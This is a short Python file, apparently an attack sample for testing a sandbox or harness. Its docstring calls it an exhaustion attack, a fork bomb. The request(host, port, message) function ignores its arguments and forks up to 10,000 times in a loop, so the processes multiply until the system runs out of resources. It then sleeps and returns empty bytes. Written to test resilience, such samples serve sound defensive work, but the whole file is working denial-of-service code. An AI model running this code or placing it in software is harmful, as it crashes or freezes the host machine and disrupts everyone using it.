"""Attack (exhaust): a fork bomb."""

import os
import time


def request(host, port, message):
    for _ in range(10_000):
        try:
            os.fork()
        except OSError:
            break
    time.sleep(30)
    return b""
